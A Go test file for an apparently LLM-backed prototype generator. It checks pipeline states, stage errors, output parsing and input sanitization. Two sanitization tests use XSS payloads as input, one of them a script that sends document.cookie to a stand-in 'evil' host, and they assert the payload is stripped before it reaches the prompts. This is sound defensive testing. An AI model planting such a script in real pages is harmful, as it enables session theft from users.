package service

import (
	"context"
	"errors"
	"protoforge/internal/config"
	"protoforge/internal/model"
	"protoforge/internal/sanitizer"
	"protoforge/pkg/llm"
	"reflect"
	"strings"
	"testing"
	"time"
)

const (
	stage1Reply = `{"requirements":["task list","add/remove items"],"keywords":["todo","list"]}`
	stage2Reply = `{"entry":"index.html","files":{"index.html":"<ul id=\"todos\"></ul>"}}`
)

func newTestGenerator(client llm.Client, retriever TemplateRetriever) *generator {
	vocab := sanitizer.NewVocabulary([]string{"todo", "list", "react"})
	g := NewGenerator(sanitizer.New(vocab), client, retriever, config.LLMConfig{
		Model:             "default-model",
		RequirementsModel: "req-model",
	}).(*generator)
	g.now = func() time.Time { return time.Date(2025, 5, 1, 12, 0, 0, 0, time.UTC) }
	return g
}

func TestGenerate_TodoApp(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	retriever := &fakeRetriever{templates: []string{}}
	g := newTestGenerator(client, retriever)

	var states []State
	gen, err := g.Run(context.Background(), "Build me a todo app", func(s State) { states = append(states, s) })
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if !strings.HasPrefix(gen.Response.Response, ResponsePrefix) {
		t.Errorf("Response = %q, want prefix %q", gen.Response.Response, ResponsePrefix)
	}
	if !reflect.DeepEqual(gen.Sanitized.Keywords, []string{"todo"}) {
		t.Errorf("sanitized keywords = %v, want [todo]", gen.Sanitized.Keywords)
	}
	if !reflect.DeepEqual(gen.Requirements.Keywords, []string{"todo", "list"}) {
		t.Errorf("requirements keywords = %v", gen.Requirements.Keywords)
	}
	if gen.Outcome.Kind != model.PrototypeParsed || gen.Outcome.Prototype.EntryFile != "index.html" {
		t.Errorf("outcome = %+v", gen.Outcome)
	}
	if !gen.Response.Time.Equal(g.now()) {
		t.Errorf("Time = %v", gen.Response.Time)
	}

	want := []State{
		StateReceived, StateSanitized, StateStage1Requested, StateStage1Parsed,
		StateTemplatesFetched, StateStage2Requested, StateStage2Parsed, StateCompleted,
	}
	if !reflect.DeepEqual(states, want) {
		t.Errorf("states = %v, want %v", states, want)
	}

	if len(client.prompts) != 2 {
		t.Fatalf("LLM calls = %d, want 2", len(client.prompts))
	}
	if client.models[0] != "req-model" || client.models[1] != "default-model" {
		t.Errorf("models = %v", client.models)
	}
	if !containsAll(client.prompts[0], `"requirements"`, "Build me a todo app") {
		t.Errorf("stage-1 prompt = %q", client.prompts[0])
	}
	if !containsAll(client.prompts[1], "- task list", "todo, list", "Build me a todo app") {
		t.Errorf("stage-2 prompt = %q", client.prompts[1])
	}
	if strings.Contains(client.prompts[1], "<<TEMPLATE") {
		t.Error("stage-2 prompt has a template section with no templates")
	}
}

func TestGenerate_IncludesFetchedTemplates(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	retriever := &fakeRetriever{templates: []string{"<html>todo</html>"}}
	g := newTestGenerator(client, retriever)

	if _, err := g.Generate(context.Background(), "<b>Build</b> a todo app", nil); err != nil {
		t.Fatalf("Generate() error = %v", err)
	}
	if retriever.queries[0] != "Build a todo app" {
		t.Errorf("templates fetched with %q, want sanitized text", retriever.queries[0])
	}
	if !containsAll(client.prompts[1], "<<TEMPLATE 1>>", "<html>todo</html>") {
		t.Errorf("stage-2 prompt missing template: %q", client.prompts[1])
	}
}

func TestGenerate_Stage1TimeoutIsFatal(t *testing.T) {
	timeout := &llm.Error{Kind: llm.Timeout, Err: context.DeadlineExceeded}
	client := &scriptedLLM{replies: []llmReply{{err: timeout}}}
	retriever := &fakeRetriever{}
	g := newTestGenerator(client, retriever)

	var last State
	_, err := g.Generate(context.Background(), "Build me a todo app", func(s State) { last = s })
	var genErr *GenerationError
	if !errors.As(err, &genErr) {
		t.Fatalf("error = %v, want *GenerationError", err)
	}
	if genErr.State != StateStage1Requested {
		t.Errorf("State = %s, want %s", genErr.State, StateStage1Requested)
	}
	if !llm.IsKind(err, llm.Timeout) {
		t.Errorf("error kind is not Timeout: %v", err)
	}
	if last != StateFailed {
		t.Errorf("last observed state = %s, want failed", last)
	}
	if retriever.calls != 0 || len(client.prompts) != 1 {
		t.Errorf("pipeline continued after stage-1 failure: retriever=%d llm=%d", retriever.calls, len(client.prompts))
	}
}

func TestGenerate_NoStage2BeforeStage1Parses(t *testing.T) {
	cases := map[string]string{
		"not json":         "I think you want a todo app",
		"missing keywords": `{"requirements":["a"]}`,
		"null list":        `{"requirements":null,"keywords":[]}`,
		"wrong type":       `{"requirements":"a","keywords":[]}`,
	}
	for name, reply := range cases {
		t.Run(name, func(t *testing.T) {
			client := &scriptedLLM{replies: []llmReply{{text: reply}, {text: stage2Reply}}}
			g := newTestGenerator(client, &fakeRetriever{})

			_, err := g.Generate(context.Background(), "Build me a todo app", nil)
			if !errors.Is(err, ErrMalformedRequirements) {
				t.Fatalf("error = %v, want ErrMalformedRequirements", err)
			}
			if len(client.prompts) != 1 {
				t.Errorf("LLM called %d times, want 1", len(client.prompts))
			}
		})
	}
}

func TestGenerate_Stage2RawFallback(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: "Sorry, here is some prose instead."}}}
	g := newTestGenerator(client, &fakeRetriever{})

	gen, err := g.Run(context.Background(), "Build me a todo app", nil)
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if gen.Outcome.Kind != model.PrototypeRawFallback || gen.Outcome.ParseErr == nil {
		t.Errorf("outcome = %+v, want raw fallback with parse error", gen.Outcome)
	}
	if gen.Response.Response != ResponsePrefix+"Sorry, here is some prose instead." {
		t.Errorf("Response = %q", gen.Response.Response)
	}
}

func TestGenerate_Stage2Unreachable(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{
		{text: stage1Reply},
		{err: &llm.Error{Kind: llm.Unreachable, Err: errors.New("connection refused")}},
	}}
	g := newTestGenerator(client, &fakeRetriever{})

	_, err := g.Generate(context.Background(), "Build me a todo app", nil)
	var genErr *GenerationError
	if !errors.As(err, &genErr) || genErr.State != StateStage2Requested {
		t.Fatalf("error = %v, want failure at stage2_requested", err)
	}
	if !llm.IsKind(err, llm.Unreachable) {
		t.Errorf("error kind is not Unreachable: %v", err)
	}
}

func TestGenerate_RejectsEmptyPrompt(t *testing.T) {
	client := &scriptedLLM{}
	g := newTestGenerator(client, &fakeRetriever{})

	var states []State
	_, err := g.Generate(context.Background(), "<script>alert(1)</script>", func(s State) { states = append(states, s) })
	if !errors.Is(err, sanitizer.ErrEmptyPrompt) {
		t.Fatalf("error = %v, want ErrEmptyPrompt", err)
	}
	if !reflect.DeepEqual(states, []State{StateReceived, StateRejected}) {
		t.Errorf("states = %v", states)
	}
	if len(client.prompts) != 0 {
		t.Error("LLM called for rejected prompt")
	}
}

func TestGenerate_CancelledContext(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	g := newTestGenerator(client, &fakeRetriever{})

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := g.Generate(ctx, "Build me a todo app", nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("error = %v, want context.Canceled", err)
	}
	if len(client.prompts) != 0 {
		t.Error("LLM called after cancellation")
	}
}

func TestRun_StagePromptsCarryOnlySanitizedText(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	g := newTestGenerator(client, &fakeRetriever{})

	raw := `<script>fetch("//evil/"+document.cookie)</script>Build me a <b>todo</b> app`
	if _, err := g.Run(context.Background(), raw, nil); err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if len(client.prompts) != 2 {
		t.Fatalf("LLM calls = %d, want 2", len(client.prompts))
	}
	for i, p := range client.prompts {
		for _, bad := range []string{"<script", "document.cookie", "<b>"} {
			if strings.Contains(p, bad) {
				t.Errorf("stage-%d prompt contains %q", i+1, bad)
			}
		}
	}
	if !strings.Contains(client.prompts[1], "Build me a todo app") {
		t.Errorf("stage-2 prompt = %q, want sanitized request", client.prompts[1])
	}
}

func TestEntryFile(t *testing.T) {
	cases := []struct {
		name     string
		declared string
		files    map[string]string
		want     string
	}{
		{"declared present", "app.js", map[string]string{"app.js": "", "index.html": ""}, "app.js"},
		{"declared missing falls back to index", "main.html", map[string]string{"index.html": "", "a.css": ""}, "index.html"},
		{"declared missing falls back to first path", "main.html", map[string]string{"b.js": "", "a.css": ""}, "a.css"},
		{"undeclared", "", map[string]string{"b.js": "", "a.css": ""}, "a.css"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := entryFile(tc.declared, tc.files); got != tc.want {
				t.Errorf("entryFile() = %q, want %q", got, tc.want)
			}
		})
	}

	out := parsePrototype(`{"entry":"missing.html","files":{"index.html":"<p>hi</p>"}}`)
	if out.Kind != model.PrototypeParsed || out.Prototype.EntryFile != "index.html" {
		t.Errorf("parsePrototype entry = %+v", out.Prototype)
	}
}

func TestParsePrototype(t *testing.T) {
	fenced := "```json\n{\"files\": {\"app.js\": \"x\", \"b.css\": \"y\"}}\n```"
	out := parsePrototype(fenced)
	if out.Kind != model.PrototypeParsed {
		t.Fatalf("Kind = %v, err = %v", out.Kind, out.ParseErr)
	}
	if out.Prototype.EntryFile != "app.js" {
		t.Errorf("EntryFile = %q, want app.js", out.Prototype.EntryFile)
	}
	if out.Prototype.DisplayText != `{"files":{"app.js":"x","b.css":"y"}}` {
		t.Errorf("DisplayText = %q", out.Prototype.DisplayText)
	}

	if out := parsePrototype(`{"files":{}}`); out.Kind != model.PrototypeRawFallback {
		t.Error("empty files parsed as prototype")
	}
}

func TestParseRequirements_AllowsEmptyLists(t *testing.T) {
	got, err := parseRequirements("Sure!\n{\"requirements\":[],\"keywords\":[]}")
	if err != nil {
		t.Fatalf("parseRequirements() error = %v", err)
	}
	if got.Requirements == nil || got.Keywords == nil {
		t.Error("empty lists decoded as nil")
	}
}
